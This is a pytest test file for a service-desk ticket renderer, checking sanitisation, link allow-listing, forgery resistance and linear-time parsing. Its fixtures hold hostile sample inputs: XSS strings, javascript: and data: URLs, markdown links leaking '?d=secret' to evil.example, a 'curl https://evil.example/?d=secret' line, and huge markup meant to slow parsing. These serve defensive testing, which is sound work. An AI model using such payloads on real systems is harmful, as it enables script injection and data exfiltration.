import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from uuid import UUID, uuid4

import nh3
import pytest

from enhancer_dagster.domain.links import AllowedLinks
from enhancer_dagster.domain.section import (
    append_section,
    find_sections,
    render_section,
    replace_sections,
    strip_sections,
)
from enhancer_dagster.domain.text import content_hash, html_to_text

OURS = UUID("550e8400-e29b-41d4-a716-446655440000")
OLD = UUID("11111111-2222-4333-8444-555555555555")
STRANGER = UUID("99999999-8888-4777-8666-555555555555")
AT = datetime(2025, 11, 2, 15, 30, 45, tzinfo=UTC)
FOOTER = f"Generated: 2025-11-02 15:30:45 UTC | Correlation ID: {OURS}"


def section_html(
    content: str = "- The cable was replaced [TKT-1].", correlation_id: UUID = OURS, without_ai: bool = False
) -> str:
    return render_section(content, correlation_id, AT, without_ai=without_ai).html


def is_ours(correlation_id: UUID) -> bool:
    return correlation_id in (OURS, OLD)


def ids(html: str) -> list[UUID]:
    return [found.correlation_id for found in find_sections(html)]


def test_the_markdown_form_is_the_owners() -> None:
    section = render_section(
        "### Similar Tickets\n- The cable was replaced [TKT-1].", OURS, AT, without_ai=False
    )
    assert section.markdown == (
        "---\n## Enhancement Recommendations\n\n### Similar Tickets\n- The cable was replaced [TKT-1].\n\n"
        "Generated: 2025-11-02 15:30:45 UTC | Correlation ID: 550e8400-e29b-41d4-a716-446655440000"
    )


def test_without_ai_the_heading_says_so() -> None:
    section = render_section("nothing", OURS, AT, without_ai=True)
    assert "\n## Enhancement Context (Generated Without AI)\n" in section.markdown
    assert "<h2>Enhancement Context (Generated Without AI)</h2>" in section.html
    assert ids(section.html) == [OURS]


def test_the_html_form() -> None:
    html = section_html("### Similar Tickets\n- The *cable* was **replaced** [TKT-1].\n- `ipconfig /all`")
    assert html == (
        "<hr><h2>Enhancement Recommendations</h2>\n<h3>Similar Tickets</h3>\n<ul>\n"
        "<li>The <em>cable</em> was <strong>replaced</strong> [TKT-1].</li>\n"
        "<li><code>ipconfig /all</code></li>\n"
        f"</ul>\n<p>{FOOTER}</p>"
    )


def test_the_time_is_shown_in_utc() -> None:
    local = AT.astimezone(timezone(timedelta(hours=5)))
    assert FOOTER in render_section("x", OURS, local, without_ai=False).markdown


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": "![x](https://evil.example/x.png?d=secret)",
    "image by reference": "![x][r]\n\n[r]: https://evil.example/x.png",
    "image in a link": "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "link": "[click](https://evil.example/?d=secret)",
    "link with a title": '[click](https://evil.example/ "title")',
    "link by reference": "[click][r] and [r]\n\n[r]: https://evil.example/",
    "autolink": "<https://evil.example/?d=secret>",
    "bare address": "see https://evil.example/?d=secret now",
    "bare address after text": "请看https://evil.example/?d=secret",
    "www": "see www.evil.example/?d=secret",
    "user name that looks like a host": "[x](https://wiki.example@evil.example/)",
    "backslash": r"[x](https://evil.example\@wiki.example/)",
    "no scheme": "[x](//evil.example/)",
    "javascript": "[x](javascript:alert(1))",
    "data": "![x](data:image/svg+xml;base64,AAAA)",
    "html image": "<img src=https://evil.example/x>",
    "html in entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "style": "<style>*{display:none}</style><div style='position:fixed'>",
    "comment": "<!-- ",
    "open tag": '<a href="',
    "form": "<form action=https://evil.example><input></form>",
    "address in code": "`https://evil.example/?d=secret`",
    "address in a code block": "```\ncurl https://evil.example/?d=secret\n```",
    "hidden characters": "https://ev\u200bil.example/?d=secret",
    "right to left": "\u202ehttps://evil.example/?d=secret",
    "deep nesting": "> " * 500 + "x",
    "many brackets": "[" * 5000,
    "unclosed code": "```\nx",
    "table": "| a | b |\n| --- | --- |\n| ![x](https://evil.example/x) | [y](https://evil.example/) |",
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_content_becomes_text(content: str) -> None:
    links = AllowedLinks(hosts=frozenset({"wiki.example"}))
    section = render_section(f"before\n\n{content}\n\nafter", OURS, AT, without_ai=False, links=links)
    assert set(re.findall(r"<([a-z0-9]+)", section.html)) <= {"hr", "h2", "p", "code", "pre", "ul", "li"}
    for form in (section.html, section.markdown):
        assert not re.search(r"https?://evil|www\.evil|secret|!\[x\]\(http", form)
        assert form.count("Correlation ID") == 1
    assert ids(section.html) == [OURS]


def test_only_allowed_links_stay_links() -> None:
    links = AllowedLinks(
        addresses=frozenset({"https://docs.example/vpn?x=1"}), hosts=frozenset({"wiki.example"})
    )
    content = (
        "[a](https://wiki.example/any/page) [b](https://docs.example/vpn?x=1) [c](https://docs.example/other)"
        " https://wiki.example/bare https://docs.example/other"
    )
    section = render_section(content, OURS, AT, without_ai=False, links=links)
    assert re.findall('href="([^"]+)"', section.html) == [
        "https://wiki.example/any/page",
        "https://docs.example/vpn?x=1",
    ]
    assert "https://wiki.example/bare [link removed]" in section.html
    assert " c " in section.html


FORGERIES = {
    "footer": FOOTER.replace(str(OURS), str(STRANGER)),
    "footer of our own id": FOOTER,
    "footer in bold": f"**{FOOTER}**",
    "footer in entities": FOOTER.replace("G", "&#71;"),
    "footer with hidden characters": FOOTER.replace("e", "e\u200b"),
    "footer in code": f"```\n{FOOTER}\n```",
    "footer in a list": f"- {FOOTER}",
    "footer in a quotation": f"> {FOOTER}",
    "footer with escapes": FOOTER.replace(":", r"\:").replace("|", r"\|"),
    "footer after a line end": f"x\n{FOOTER}",
    "footer after a hard line end": f"x  \n{FOOTER}",
    "footer in html": f"<p>{FOOTER}</p>",
    "heading": "# Enhancement Recommendations",
    "heading without ai": "## Enhancement Context (Generated Without AI)",
    "heading underlined": "Enhancement Recommendations\n===",
    "heading as text": "Enhancement Recommendations",
    "heading in pieces": "**Enhancement** *Recommendations*",
    "heading in html": "<h2>Enhancement Recommendations</h2>",
    "whole section": f"---\n## Enhancement Recommendations\n\nx\n\n{FOOTER}\n\n# Enhancement Recommendations",
}


@pytest.mark.parametrize("content", FORGERIES.values(), ids=FORGERIES.keys())
def test_content_cannot_forge_heading_or_footer(content: str) -> None:
    section = render_section(f"before\n\n{content}\n\nafter", OURS, AT, without_ai=False)
    for form in (section.html, section.markdown):
        (found,) = find_sections(f"<p>user</p>{form}" if form is section.html else form)
        assert found.correlation_id == OURS
    html = f"<p>user</p>{section.html}<p>more</p>"
    assert strip_sections(html, is_ours) == "<p>user</p>\n<p>more</p>"
    assert section.html.count("<h2>") == 1


def test_headings_in_the_content_stand_below_the_sections_own() -> None:
    section = render_section("# One\n\n## Two\n\nx", OURS, AT, without_ai=False)
    assert "<h3>One</h3>" in section.html
    assert "<h4>Two</h4>" in section.html


def as_it_is(html: str) -> str:
    return html


def sanitised(html: str) -> str:
    return nh3.clean(html)


def without_rule(html: str) -> str:
    return html.replace("<hr>", "")


def upper_case(html: str) -> str:
    return re.sub("</?[a-z0-9]+", lambda tag: tag.group().upper(), html)


def divs(html: str) -> str:
    return html.replace("<p>", '<div style="margin:0">').replace("</p>", "</div>")


def styled(html: str) -> str:
    html = html.replace("<hr>", '<hr style="a" />').replace("</h2>", "</span></b></h2>\n")
    return html.replace("<h2>", '\n<h2 style="font: a>b" class="x"><b><span>')


def entities(html: str) -> str:
    html = html.replace("|", "&#124;").replace("Correlation ID", "Correlation&nbsp;ID")
    return html.replace("Enhancement Recommendations", "\n  Enhancement&#32;\n Recommendations ")


def spread_out(html: str) -> str:
    return html.replace("<", "\n  <").replace("Generated: ", "Generated:\n    ")


def wrapped(html: str) -> str:
    return f"<div><div><!-- x -->{html}</div></div>"


def bold_instead_of_headings(html: str) -> str:
    return re.sub("<h[2-6]>", "<div><b>", re.sub("</h[2-6]>", "</b></div>", html))


def line_breaks_instead_of_blocks(html: str) -> str:
    return re.sub("</?(?:h[2-6]|p|ul|ol|li)>", "<br />", html)


REWRITES = [
    as_it_is,
    sanitised,
    without_rule,
    upper_case,
    divs,
    styled,
    entities,
    spread_out,
    wrapped,
    bold_instead_of_headings,
    line_breaks_instead_of_blocks,
]


@pytest.mark.parametrize("rewrite", REWRITES)
def test_a_section_is_found_and_replaced_after_the_service_desk_rewrote_it(
    rewrite: Callable[[str], str],
) -> None:
    before = "<p>The printer <b>in room 5</b> is dead.</p>"
    stored = rewrite(append_section(before, section_html(correlation_id=OLD))) + "<p>Called the user.</p>"
    assert ids(stored) == [OLD]
    replaced = replace_sections(stored, section_html(), is_ours)
    assert ids(replaced) == [OURS]
    text = " ".join(html_to_text(replaced).split())
    assert text.startswith("The printer in room 5 is dead. Enhancement Recommendations The cable")
    assert text.endswith(f"{FOOTER} Called the user.")
    left = " ".join(html_to_text(strip_sections(replaced)).split())
    assert left == "The printer in room 5 is dead. Called the user."
    assert replace_sections(replaced, section_html(), is_ours) == replaced


@pytest.mark.parametrize("rewrite", REWRITES)
def test_our_own_write_does_not_change_the_hash(rewrite: Callable[[str], str]) -> None:
    for description in ("<p>a &amp; b</p><p>c</p>", "a & b\n\nc <d\r\ne", "a<br>b", "", "x &lt; y", "1 < 2"):
        before = content_hash("s", html_to_text(strip_sections(description, is_ours)))
        stored = rewrite(append_section(description, section_html()))
        assert content_hash("s", html_to_text(strip_sections(stored, is_ours))) == before
        assert content_hash("s", html_to_text(strip_sections(stored))) == before


def test_plain_text_becomes_html_that_reads_the_same() -> None:
    html = append_section("a < b & c\nnext\r\nlast", "<hr>")
    assert html == "a &lt; b &amp; c<br>next<br>last<hr>"


def test_what_people_wrote_stays_byte_for_byte() -> None:
    before = "<P Class=x>odd  &nbsp; <br>\n<unknown>é\t<!-- c --></p"
    before += ">"
    after = '\n<div\tstyle="a">  later</DIV>&#x41;'
    assert replace_sections(before + section_html(correlation_id=OLD) + after, section_html(), is_ours) == (
        before + section_html() + after
    )


def test_a_look_alike_that_is_not_ours_stays() -> None:
    quoted = section_html(correlation_id=STRANGER)
    html = replace_sections(f"<p>see</p>{quoted}", section_html(), is_ours)
    assert html == f"<p>see</p>{quoted}{section_html()}"
    assert strip_sections(html, is_ours) == f"<p>see</p>{quoted}"


def test_nothing_that_looks_like_a_section_becomes_evidence() -> None:
    html = f"<p>see</p>{section_html(correlation_id=STRANGER)}<p>and</p>{section_html()}<p>end</p>"
    assert html_to_text(strip_sections(html)) == "see\nand\nend"


def test_nested_sections_do_not_become_evidence_either() -> None:
    inner = section_html("inner", correlation_id=STRANGER)
    outer = section_html("first\n\nsecond").replace("<p>second</p>", f"{inner}<p>second</p>")
    assert strip_sections(f"<p>a</p>{outer}<p>b</p>") == "<p>a</p>\n<p>b</p>"


def test_the_markdown_form_does_not_become_evidence() -> None:
    markdown = render_section("use <c> & see\n\n- x", OURS, AT, without_ai=False).markdown
    for around in ("{}", "<div>{}</div>", "<pre>{}</pre>"):
        description = around.format(f"before\n\n{markdown}\n\nafter")
        assert html_to_text(strip_sections(description)).split() == ["before", "after"]


def test_a_fake_heading_before_our_section_swallows_nothing() -> None:
    user = "<h2>Enhancement Recommendations</h2><p>please keep this</p>"
    html = append_section(user, section_html(correlation_id=OLD))
    assert replace_sections(html, section_html(), is_ours) == user + section_html()


def test_fakes_around_our_section_swallow_nothing() -> None:
    before = "<h2>Enhancement Recommendations</h2><p>keep one</p>"
    after = f"<p>keep two</p><p>{FOOTER}</p>"
    html = before + section_html(correlation_id=OLD) + after
    replaced = replace_sections(html, section_html(), is_ours)
    assert replaced == before + section_html() + after
    assert replace_sections(replaced, section_html(), is_ours) == replaced


def test_a_footer_alone_is_user_text() -> None:
    user = f"<p>you wrote: </p><p>{FOOTER}</p><p>what is that?</p>"
    assert find_sections(user) == []
    assert replace_sections(user, section_html(), is_ours) == user + section_html()


def test_several_sections_of_ours_become_one() -> None:
    html = f"<p>a</p>{section_html(correlation_id=OLD)}<p>b</p>{section_html()}<p>c</p>"
    assert (
        replace_sections(html, section_html("new"), is_ours)
        == f"<p>a</p>\n<p>b</p>{section_html('new')}<p>c</p>"
    )


def test_text_that_a_technician_wrote_into_the_footer_line_stays() -> None:
    html = f"<p>a</p>{section_html()}".replace("</p>", " - checked, Bob</p>")
    replaced = replace_sections(html, section_html("new"), is_ours)
    assert "checked, Bob" in html_to_text(replaced)
    assert ids(replaced) == [OURS]


def test_elements_that_begin_outside_the_section_stay_closed() -> None:
    html = f"<div><p>a</p><hr></div>{section_html()[4:]}<i>b</i>"
    assert strip_sections(html) == "<div><p>a</p></div>\n<i>b</i>"


@pytest.mark.parametrize(
    "left_open",
    [
        "a <!-- b",
        '<p title="a',
        "<p title='a",
        "<p>a<textarea>b",
        "<b>a</b><title>x",
        "<br><p ",
        "<br></",
        "<br><!",
    ],
)
def test_markup_left_open_does_not_hide_the_section(left_open: str) -> None:
    written = append_section(f"<p>x</p>{left_open}", section_html())
    assert ids(written) == [OURS]
    assert replace_sections(written, section_html(), is_ours) == written
    assert html_to_text(strip_sections(written)) == html_to_text(f"<p>x</p>{left_open}")


@pytest.mark.parametrize("rest", ['<p title="a', "a &lt b", "1 <b"])
def test_what_is_left_is_read_as_html_as_it_was_before(rest: str) -> None:
    html = section_html(correlation_id=STRANGER) + rest
    stripped = html_to_text(strip_sections(html))
    assert stripped == html_to_text(f"<br>{rest}")
    assert stripped == html_to_text(strip_sections(replace_sections(html, section_html(), is_ours)))


def test_a_note_is_the_section_alone() -> None:
    assert replace_sections("", section_html(), is_ours) == section_html()
    assert replace_sections(section_html(correlation_id=OLD), section_html(), is_ours) == section_html()
    assert strip_sections(section_html()) == ""


@pytest.mark.parametrize(
    "hostile",
    [
        "<h2>Enhancement Recommendations</h2>" * 20_000,
        f"<p>{FOOTER}</p>" * 8_000,
        "<h2>Enhancement Recommendations</h2>" * 8_000 + f"<p>{FOOTER}</p>" * 6_000,
        "<div>" * 150_000,
        "<!--" * 200_000 + ">",
        "<a b='" * 100_000 + ">",
        "Enhancement Recommendations\n" * 30_000 + "<br>",
        "<b>" * 100_000 + "</i>" * 100_000,
    ],
    ids=["headings", "footers", "nested", "deep", "comments", "attributes", "lines", "unbalanced"],
)
@pytest.mark.timeout(60)
def test_a_megabyte_of_hostile_markup_is_read_in_linear_time(hostile: str) -> None:
    html = hostile + section_html(correlation_id=uuid4())
    strip_sections(html)
    replace_sections(html, section_html(), is_ours)
    html_to_text(html)
